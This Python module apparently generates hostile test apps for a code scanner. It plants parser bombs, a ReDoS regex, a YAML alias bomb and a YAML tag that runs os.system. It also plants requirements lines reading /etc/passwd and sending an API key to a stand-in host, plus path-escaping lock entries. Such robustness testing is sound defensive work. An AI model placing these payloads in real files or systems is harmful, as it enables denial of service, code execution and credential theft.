"""Hostile apps with files that break, blow up or slow down whoever parses them."""

from __future__ import annotations

import json

from hostile_ground import Case, Ground

_REGEX = "const r = /(a+)+$/;\nr.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!');\n"
PYTHON: dict[str, str | bytes] = {
    "a syntax error": "def f(:\n",
    "prose": "Sure! Here is your app \U0001f600:\n```python\nx = 1\n```\n",
    "newer syntax": "type A = int\nx = f'{'a' + f'{1}'}'\n",
    "Python 2": "print 'x'\nexec 'y'\n",
    "a merge conflict": "<<<<<<< HEAD\nx = 1\n=======\nx = 2\n>>>>>>> other\n",
    "nested brackets": "x = " + "(" * 5_000 + ")" * 5_000 + "\n",
    "very nested brackets": "x = " + "(" * 450_000 + ")" * 450_000,
    "open brackets": "(" * 900_000,
    "nested lists": "x = " + "[" * 90 + "1" + "]" * 90 + "\n",
    "nested functions": "".join(f"{' ' * depth}def f():\n" for depth in range(98)) + " " * 98 + "pass\n",
    "nested conditions": "".join(f"{' ' * depth}if x:\n" for depth in range(99)) + " " * 99 + "pass\n",
    "nested lambdas": "x = " + "lambda: " * 3_000 + "1\n",
    "nested f-strings": "x = " + "f'{" * 100 + "1" + "}'" * 100 + "\n",
    "unary operators": "x = " + "-" * 100_000 + "1\n",
    "binary operators": "x = " + "1 + " * 60_000 + "1\n",
    "a chain of strings": "x = " + "'a' " * 200_000 + "\n",
    "a chain of attributes": "x" + ".x" * 100_000 + "\n",
    "a chain of calls": "x" + "()" * 30_000 + "\n",
    "a chain of elifs": "if x: pass\n" + "elif x: pass\n" * 20_000,
    "a chain of assignments": "x = " * 100_000 + "1\n",
    "a giant number": "x = " + "9" * 500_000 + "\n",
    "a giant power": "x = 9 ** 9 ** 9 ** 9\ny = 'a' * 10 ** 12\n",
    "a giant string": "x = '" + "a" * 1_000_000 + "'\n",
    "one long line": "x = [" + "1, " * 300_000 + "]\n",
    "a million short lines": "\n" * 1_000_000,
    "a hundred thousand statements": "x = 1\n" * 100_000,
    "a thousand evals": "eval(input())\n" * 1_000,
    "many arguments": "f(" + "a, " * 100_000 + ")\n",
    "many keywords": "def f(" + ", ".join(f"a{n}=1" for n in range(20_000)) + "): pass\n",
    "a decorator tower": "@x\n" * 50_000 + "def f(): pass\n",
    "a giant dictionary": "x = {" + "'k': 'v', " * 80_000 + "}\n",
    "a giant SQL text": "x = 'SELECT " + "a, " * 200_000 + "FROM t WHERE ' + input()\n",
    "a call that blinds a check": 'import tarfile\nt = tarfile.open("x")\nt.extractall(members=k(1)(t))\n',
    "backslashes": "x = 1 + \\\n" * 50_000 + "1\n",
    "tabs and spaces": "if x:\n\ty = 1\n        z = 2\n",
    "half a megabyte of secrets": "".join(f"k{n} = 'AKIA{n:016d}'\n" for n in range(15_000)),
    "a line of random hex": "x = '" + "0123456789abcdef" * 50_000 + "'\n",
    "only a byte order mark": b"\xef\xbb\xbf",
    "nothing": b"",
    "binary": bytes(range(256)) * 1_000,
}
SCRIPT: dict[str, str | bytes] = {
    "a syntax error": "export const = ;\n",
    "prose": "Sure! Here is your component:\n```jsx\n<App />\n```\n",
    "nested elements": "const x = " + "<a>" * 4_000 + "</a>" * 4_000 + ";\n",
    "nested parentheses": "x = " + "(" * 5_000 + "1" + ")" * 5_000 + ";\n",
    "very nested parentheses": "x = " + "(" * 450_000 + "1" + ")" * 450_000 + ";\n",
    "open braces": "{" * 500_000,
    "nested arrays": "x = " + "[" * 20_000 + "]" * 20_000 + ";\n",
    "nested objects": "x = " + "{a:" * 10_000 + "1" + "}" * 10_000 + ";\n",
    "nested functions": "(()=>" * 5_000 + "1" + ")" * 5_000 + ";\n",
    "nested templates": "x = " + "`${" * 3_000 + "1" + "}`" * 3_000 + ";\n",
    "an open template": "x = `" + "${a}" * 100_000 + "\n",
    "unary operators": "x = " + "!" * 200_000 + "1;\n",
    "binary operators": "x = " + "1 + " * 100_000 + "1;\n",
    "ternaries": "x = " + "a ? b : " * 20_000 + "c;\n",
    "a chain of members": "x" + ".x" * 100_000 + ";\n",
    "a chain of calls": "x" + "()" * 50_000 + ";\n",
    "a chain of else ifs": "if (x) {}\n" + "else if (x) {}\n" * 10_000,
    "a regular expression": _REGEX,
    "many regular expressions": "/(a+)+$/.test(x);\n" * 3_000,
    "a giant regular expression": "const r = /" + "(a|b)*" * 50_000 + "/;\n",
    "a broken regular expression": "const r = /(?<a>)(?<a>[/;\n",
    "a giant number": "x = " + "9" * 500_000 + "n;\n",
    "a giant string": "x = '" + "a" * 1_000_000 + "';\n",
    "one long line": "x = [" + "1," * 400_000 + "];\n",
    "a million short lines": "\n" * 1_000_000,
    "a thousand evals": "eval(location.hash);\n" * 1_000,
    "ten thousand innerHTML": "a.innerHTML = b;\n" * 10_000,
    "comments": "/*" * 400_000 + "*/\n",
    "an open comment": "/* " + "a" * 900_000,
    "generics": "const x = " + "a<" * 5_000 + "b" + ">" * 5_000 + "(c);\n",
    "types": "type T = " + "{a: " * 3_000 + "1" + "}" * 3_000 + ";\n",
    "surrogates": 'x = "\\ud800";\ny = "\\u{10ffff}";\n',
    "a hashbang": "#!/usr/bin/env node\nx = 1;\n",
    "HTML comments": "<!-- x\nx = 1;\n--> y\n",
    "minified": ";".join(f"var a{n}=function(){{return eval(a{n})}}" for n in range(20_000)),
    "a merge conflict": "<<<<<<< HEAD\nx = 1\n=======\nx = 2\n>>>>>>> other\n",
    "decorators": "@a\n" * 20_000 + "class A {}\n",
    "nothing": b"",
    "binary": bytes(range(256)) * 1_000,
}
_SLOW = {
    *(
        "very nested brackets",
        "open brackets",
        "very nested parentheses",
        "open braces",
        "a million short lines",
    ),
    *("half a megabyte of secrets", "ten thousand innerHTML", "many regular expressions", "minified"),
    *("a giant SQL text", "a hundred thousand statements", "comments", "a giant regular expression"),
}


def _nested(levels: int) -> str:
    return '{"a":' * levels + "1" + "}" * levels


_BOMB = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12)
)
_COMPOSE = {
    "an alias bomb": lambda text: f"{_BOMB}{text}    labels: *a11\n",
    "an alias of itself": lambda text: f"x: &x [*x]\n{text}",
    "a merge that hides": lambda text: (
        "x: &x\n  privileged: true\n" + text.replace("    privileged: true\n", "    <<: *x\n")
    ),
    "tags that construct": lambda text: f"x: !!python/object/apply:os.system ['{{trap}}']\n{text}",
    "deep nesting": lambda text: text + "x: " + "[" * 5_000 + "]" * 5_000 + "\n",
    "deep mappings": lambda text: text + "".join(f"{' ' * n}a:\n" for n in range(1_000)),
    "keys twice": lambda text: f"services:\n  other:\n    image: x:1\n{text}",
    "two documents": lambda text: f"{text}---\nservices: {{}}\n",
    "tabs": lambda text: text.replace("    ", "\t"),
    "a scalar": lambda _: "just a text\n",
    "a giant scalar": lambda text: f"{text}x: '{'a' * 900_000}'\n",
    "a key that is a list": lambda text: f"? [a, b]\n: c\n{text}",
}
_MANIFESTS = {
    "deep nesting": lambda text: text.replace('"name": "app"', f'"x": {_nested(50_000)}'),
    "keys twice": lambda text: text.replace('"name": "app"', '"dependencies": {}'),
    "a giant number": lambda text: text.replace('"app"', "9" * 400_000),
    "not a number": lambda text: text.replace('"app"', "NaN"),
    "a list": lambda text: f"[{text}]",
    "comments": lambda text: f"// x\n{text}",
    "wrong types": lambda text: text.replace('"app"', '"app", "devDependencies": [1], "overrides": 7'),
    "odd versions": lambda text: text.replace(
        '"axios"',
        '"a": null, "b": {}, "c": "", "d": "' + "^" * 5_000 + '", "e": "1.' + "9" * 5_000 + '", "axios"',
    ),
    "many packages": lambda text: text.replace(
        '"axios"', ", ".join(f'"p{n}": "1.0.{n}"' for n in range(20_000)) + ', "axios"'
    ),
    "escapes in names": lambda text: text.replace(
        '"axios"', '"\\u001b[2J<img src=x>": "1.0.0", "\\ud800": "1", "axios"'
    ),
}
_LOCKS = {
    "deep": _nested(50_000),
    "deep dependencies": '{"lockfileVersion": 1, "dependencies": '
    + '{"a": {"version": "1.0.0", "dependencies": ' * 500
    + "{}"
    + "}}" * 500
    + "}",
    "large": json.dumps(
        {"lockfileVersion": 3, "packages": {f"node_modules/p{n}": {"version": "1"} for n in range(15_000)}}
    ),
    "not JSON": "lockfile",
    "of a wrong form": '{"lockfileVersion": "x", "packages": [1, 2], "dependencies": 5}',
    "resolved elsewhere": '{"lockfileVersion": 3, "packages": {"node_modules/axios": {"version": "0.21.0", '
    '"resolved": "file:../../outside"}}}',
}
_REQUIREMENTS = {
    "junk": lambda text: f"\x00\x01 ???\n=== broken\n{text}[[[\n",
    "a continuation": lambda text: f"flask \\\n  ==9.9.9 \\\n\n{text}",
    "a continuation at the end": lambda text: f"{text}x==1 \\",
    "files elsewhere": lambda text: (
        f"-r ../../../../outside/requirements.txt\n-c /etc/passwd\n-r /dev/zero\n{text}"
    ),
    "itself": lambda text: f"-r requirements.txt\n-c ./requirements.txt\n{text}",
    "sources that run": lambda text: (
        f"./\n-e .\n-e git+https://x.invalid/y#egg=z\nfile:///etc/passwd\n{text}"
    ),
    "options": lambda text: (
        f"--index-url http://x.invalid/\n--trusted-host x.invalid\n--no-binary :all:\n{text}"
    ),
    "variables": lambda text: f"${{HOME}}\n--index-url https://u:${{OPENROUTER_API_KEY}}@x.invalid/\n{text}",
    "many lines": lambda text: text + "".join(f"p{n}==1\n" for n in range(30_000)),
    "a long line": lambda text: f"{text}x[{'a,' * 200_000}]==1\n",
    "long versions": lambda text: f"{text}x=={'1.' * 100_000}0\ny~={'9' * 5_000}\n",
    "markers": lambda text: f"{text}x==1; {'(' * 3_000}python_version<'3'{')' * 3_000}\n",
    "a regular expression's trap": lambda text: f"{text}{'a-' * 50_000}!\n{'_' * 100_000}\n",
}
_DOCKERFILES = {
    "a long line": lambda text: f"{text}RUN echo {'a' * 900_000}\n",
    "many continuations": lambda text: f"{text}RUN a" + " \\\n  b" * 50_000 + "\n",
    "an open here document": lambda text: f"{text}RUN <<EOF\nx\n",
    "a pattern's trap": lambda text: (
        f"{text}RUN {'curl ' * 20_000}\nRUN {'sh -c ' * 20_000}\nENV {'A=' * 20_000}\n"
    ),
    "many stages": lambda text: text + "".join(f"FROM x:{n} AS s{n}\n" for n in range(5_000)) + "USER x\n",
    "an open list": lambda text: f"{text}CMD {'[' * 100_000}\n",
    "lower case": lambda text: text.lower(),
    "blanks in front": lambda text: f"\n\n   \n\t{text}",
    "junk": lambda text: f"{text}\x00\x01\x02 ???\nNONSENSE x\n",
}


def _beside(ground: Ground, folder: str, suffix: str, content: str | bytes) -> None:
    ground.put(f"{folder}/poison{suffix}", content)


def _within(ground: Ground, kind: str, content: str) -> None:
    """Put the poison behind the fault in the planted file itself."""
    ground.spoil(lambda text: text + content, kind)


def _spoiled(ground: Ground, kind: str, change) -> None:
    ground.spoil(lambda text: _with_trap(ground, change(text)), kind)


def _with_trap(ground: Ground, text: str | bytes) -> str | bytes:
    return text.replace("{trap}", ground.shell_trap()) if isinstance(text, str) else text


def _lock(ground: Ground, text: str) -> None:
    """Put a lock file beside package.json; what it says of a package counts instead of what stands there."""
    for folder in ("backend", "frontend"):
        ground.put(f"{folder}/package-lock.json", text)
        if "axios" in text:
            del ground.plants[f"{folder}/package.json"]
            ground.plants[f"{folder}/package-lock.json"] = "manifest"


_WITHIN_PYTHON = (
    "nested brackets",
    "unary operators",
    "a chain of attributes",
    "one long line",
    "newer syntax",
)
_WITHIN_SCRIPT = (
    "nested elements",
    "nested templates",
    "unary operators",
    "one long line",
    "a regular expression",
)


def cases() -> list[Case]:
    """Return the apps of this kind."""
    found = [
        Case(
            f"poison for Python: {name}",
            lambda ground, c=content: _beside(ground, "backend", ".py", c),
            costly=name in _SLOW,
        )
        for name, content in PYTHON.items()
    ]
    found += [
        Case(
            f"poison for scripts: {name}",
            lambda ground, c=content: (
                _beside(ground, "frontend/src", ".jsx", c),
                _beside(ground, "backend", ".js", c),
            ),
            costly=name in _SLOW,
        )
        for name, content in SCRIPT.items()
    ]
    for kind, texts, chosen in (("python", PYTHON, _WITHIN_PYTHON), ("script", SCRIPT, _WITHIN_SCRIPT)):
        found += [
            Case(
                f"poison in the {kind} file: {name}",
                lambda ground, k=kind, c=texts[name]: _within(ground, k, c),
            )
            for name in chosen
        ]
    for kind, changes in (
        ("compose", _COMPOSE),
        ("manifest", _MANIFESTS),
        ("requirements", _REQUIREMENTS),
        ("dockerfile", _DOCKERFILES),
    ):
        found += [
            Case(f"{kind}: {name}", lambda ground, k=kind, c=change: _spoiled(ground, k, c))
            for name, change in changes.items()
        ]
    return found + [
        Case(f"lock file: {name}", lambda ground, t=text: _lock(ground, t)) for name, text in _LOCKS.items()
    ]
